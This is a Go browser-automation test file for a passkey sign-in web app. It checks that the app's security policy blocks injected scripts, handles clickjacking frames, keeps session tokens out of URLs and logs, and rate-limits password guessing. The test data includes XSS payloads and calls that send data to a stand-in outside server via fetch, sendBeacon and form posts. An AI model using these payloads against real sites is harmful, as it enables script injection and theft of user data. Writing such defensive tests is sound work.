package e2e

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"github.com/keypeg/keypeg/shared"
)

// TestInjectedScripts puts markup and scripts into our pages, as an attacker could through a
// fault in them. None of them runs, sends anything to another site, or changes the page.
func TestInjectedScripts(t *testing.T) {
	t.Parallel()
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("another site was asked for %s", r.URL)
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, "window.ran = true")
	}))
	t.Cleanup(elsewhere.Close)

	ann := openBrowser(t, startServer(t))
	ann.hasDevice()
	ann.setsUp()
	ann.signsOut()
	for _, page := range []string{"/sign-in", "/passkeys"} {
		if page == "/passkeys" {
			ann.signsInWithPassword(annsName, annsPassword)
		}
		ann.opens(page)
		ann.sees("main, form")
		// A page that is watched by the tests' own protocol: the violations are
		// events of the document.
		value[bool](ann, `window.violations = [], document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective)), true`)
		for what, attack := range map[string]struct{ script, directive string }{
			"an inline script":            {`const s = document.createElement("script"); s.textContent = "window.ran = true"; document.body.append(s)`, "script-src-elem"},
			"a handler in markup":         {`document.body.insertAdjacentHTML("beforeend", "<img src=/nowhere onerror='window.ran = true'>")`, "script-src-attr"},
			"a script of another site":    {`const s = document.createElement("script"); s.src = "ELSEWHERE/x.js"; document.body.append(s)`, "script-src-elem"},
			"a script: address":           {`location.href = "javascript:window.ran = true"`, "script-src-elem"},
			"code in a text":              {`setTimeout("window.ran = true")`, "script-src"},
			"a form to another site":      {`document.body.insertAdjacentHTML("beforeend", "<form id=evil action=ELSEWHERE/take method=post><input name=x></form>"); document.querySelector("#evil").submit()`, "form-action"},
			"a picture of another site":   {`document.body.insertAdjacentHTML("beforeend", "<img src=ELSEWHERE/x.png>")`, "img-src"},
			"a request to another site":   {`fetch("ELSEWHERE/take", {method: "POST", mode: "no-cors", body: "x"}).catch(() => {})`, "connect-src"},
			"a beacon to another site":    {`navigator.sendBeacon("ELSEWHERE/take", "x")`, "connect-src"},
			"a frame":                     {`document.body.insertAdjacentHTML("beforeend", "<iframe src=ELSEWHERE/></iframe>")`, "frame-src"},
			"an object":                   {`document.body.insertAdjacentHTML("beforeend", "<object data=ELSEWHERE/x></object>")`, "object-src"},
			"an address for all others":   {`document.head.insertAdjacentHTML("beforeend", "<base href=ELSEWHERE/>")`, "base-uri"},
			"a worker made of a text":     {`try { new Worker(URL.createObjectURL(new Blob(["1"]))) } catch {}`, "worker-src"},
			"a style that hides the page": {`document.body.insertAdjacentHTML("beforeend", "<style>body { display: none }</style>")`, "style-src-elem"},
		} {
			script := strings.ReplaceAll(attack.script, "ELSEWHERE", elsewhere.URL)
			value[bool](ann, `(() => { violations.length = 0; `+script+`; return true })()`)
			ann.waitsFor(what+" to be refused on "+page, fmt.Sprintf(`violations.includes(%q)`, attack.directive))
			if value[bool](ann, `"ran" in window`) {
				t.Errorf("%s: %s ran", page, what)
			}
		}
		if value[string](ann, `getComputedStyle(document.body).display`) == "none" {
			t.Errorf("%s: the style hid the page", page)
		}
	}
}

// TestFramed shows our pages in a frame of another site, as for clickjacking.
func TestFramed(t *testing.T) {
	t.Parallel()
	s := startServer(t)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<title>Win a prize</title><iframe src="%s/sign-in"></iframe><iframe src="%s/passkeys"></iframe>`, s.url, s.url)
	}))
	t.Cleanup(evil.Close)
	ann := openBrowser(t, s)
	ann.setsUp()
	ann.opens(evil.URL)
	ann.complains("frame-ancestors", 2)
	// Until the browser's own page is in a frame, its empty first page is.
	ann.waitsFor("no frame to be readable", `[...document.querySelectorAll("iframe")].every((f) => { try { return f.contentDocument === null } catch { return true } })`)
}

// secrets are the values that are sent and received, and may be nowhere else.
type secrets struct {
	mu    sync.Mutex
	found map[string]string // value -> what it is
	urls  []string
	asked map[network.RequestID]bool
}

func (s *secrets) add(what, value string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(value) > 20 {
		s.found[value] = what
	}
}

func (s *secrets) all() (found map[string]string, urls []string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return maps.Clone(s.found), slices.Clone(s.urls)
}

var sessionCookie = regexp.MustCompile(`(?m)^keypeg=([^;]+)`)

// watchesSecrets gathers every ticket, challenge and session token, and every
// address that is asked for.
func (b *browser) watchesSecrets() *secrets {
	b.t.Helper()
	s := &secrets{found: map[string]string{}, asked: map[network.RequestID]bool{}}
	if _, err := chromedp.Call(b.ctx, network.Enable, network.EnableParams{}); err != nil {
		b.t.Fatal(err)
	}
	err := chromedp.Listen(b.ctx, func(event any) {
		switch event := event.(type) {
		case *network.EventRequestWillBeSent:
			s.mu.Lock()
			s.urls = append(s.urls, event.Request.URL)
			s.asked[event.RequestID] = strings.HasSuffix(event.Request.URL, "/begin")
			s.mu.Unlock()
		case *network.EventResponseReceivedExtraInfo:
			for name, value := range event.Headers {
				if strings.EqualFold(name, "Set-Cookie") {
					for _, found := range sessionCookie.FindAllStringSubmatch(fmt.Sprint(value), -1) {
						s.add("session token", found[1])
					}
				}
			}
		case *network.EventLoadingFinished:
			s.mu.Lock()
			begin := s.asked[event.RequestID]
			s.mu.Unlock()
			if begin {
				go b.readsCeremony(s, event.RequestID)
			}
		}
	})
	if err != nil {
		b.t.Fatal(err)
	}
	return s
}

// readsCeremony reads the answer of the first half of a ceremony.
func (b *browser) readsCeremony(s *secrets, id network.RequestID) {
	body, err := chromedp.Call(b.ctx, network.GetResponseBody, network.GetResponseBodyParams{RequestID: id})
	if err != nil {
		return // the page was left before
	}
	var begun struct {
		Ticket    string
		PublicKey struct{ Challenge string }
	}
	if json.Unmarshal(body.Body, &begun) == nil {
		s.add("ticket", begun.Ticket)
		s.add("challenge", begun.PublicKey.Challenge)
	}
}

// TestSecretsStayWhereTheyBelong signs in and adds a passkey. Then it looks for the tickets,
// challenges and tokens in addresses, in what the browser keeps, and in the server's log.
func TestSecretsStayWhereTheyBelong(t *testing.T) {
	t.Parallel()
	s := startServer(t, "--log-level", "debug")
	ann := openBrowser(t, s)
	device := ann.hasDevice()
	seen := ann.watchesSecrets()

	ann.setsUp()
	ann.opensPasskeys()
	const markup = `<img src=x onerror=alert(1)>&lt;"'`
	ann.addsPasskey(markup)
	ann.readsIn(row(1, ".row-name bdi"), markup)
	ann.clicks("#passkeys-close")
	device.touches(false)
	ann.signsOut()
	autofills := ann.cannotAutofill()
	ann.opens("/sign-in")
	device.touches(true)
	ann.clicks("#use-passkey")
	ann.isAt("/")
	autofills()
	ann.opens("/activity")
	ann.reads("Signed in with “" + markup + "”")
	if n := value[int](ann, `document.querySelectorAll("img[src=x]").length`); n != 0 {
		t.Errorf("the name became %d pictures", n)
	}

	kinds := map[string]int{}
	found, urls := seen.all()
	log, cookies := s.log.String(), value[string](ann, `document.cookie`)
	for secret, what := range found {
		kinds[what]++
		for _, url := range urls {
			if strings.Contains(url, secret) {
				t.Errorf("an address holds a %s: %s", what, url)
			}
		}
		if strings.Contains(log, secret) {
			t.Errorf("the log holds a %s", what)
		}
		if kept := ann.traces(regexp.QuoteMeta(secret)); len(kept) != 0 {
			t.Errorf("the browser keeps a %s: %q", what, kept)
		}
		if strings.Contains(cookies, secret) {
			t.Errorf("scripts can read a %s", what)
		}
	}
	for _, what := range []string{"session token", "ticket", "challenge"} {
		if kinds[what] == 0 {
			t.Errorf("no %s was seen: this test shows nothing", what)
		}
	}
	ann.hasNoComplaints()
}

// TestTooManyAttempts has an attacker guess passwords. The attacker has to wait; Ann doesn't.
func TestTooManyAttempts(t *testing.T) {
	t.Parallel()
	s := startServer(t)
	ann, attacker := openBrowser(t, s), openBrowser(t, s)
	ann.setsUp()
	ann.signsOut()
	attacker.triesPassword(annsName, "a wrong password")
	attacker.reads("The user name or the password is not right.")

	// The limit recovers with time. So all other attempts come at once, and the form is filled in before.
	attacker.fillsIn(annsName, annsPassword)
	refused := value[int](attacker, `Promise.all(Array.from({ length: 30 }, () => fetch("`+shared.PathSignInPassword+`", {
		method: "POST", headers: { "Content-Type": "application/json" },
		body: JSON.stringify({ name: "`+annsName+`", password: "a wrong password" }),
	}).then((answer) => answer.status))).then((all) => all.filter((status) => status === 429).length)`)
	if refused == 0 {
		t.Error("of thirty attempts none was refused")
	}
	attacker.clicks("#use-password")
	attacker.reads("Too many attempts. Please try again in ")
	if name := value[string](attacker, `document.querySelector("input[name=name]").value`); name != annsName {
		t.Errorf("the form has forgotten the name: %q", name)
	}
	ann.signsInWithPassword(annsName, annsPassword)
	ann.hasNoComplaints()
}

func (b *browser) triesPassword(name, password string) {
	b.t.Helper()
	b.submitsPassword(name, password)
	b.sees(".notice")
}
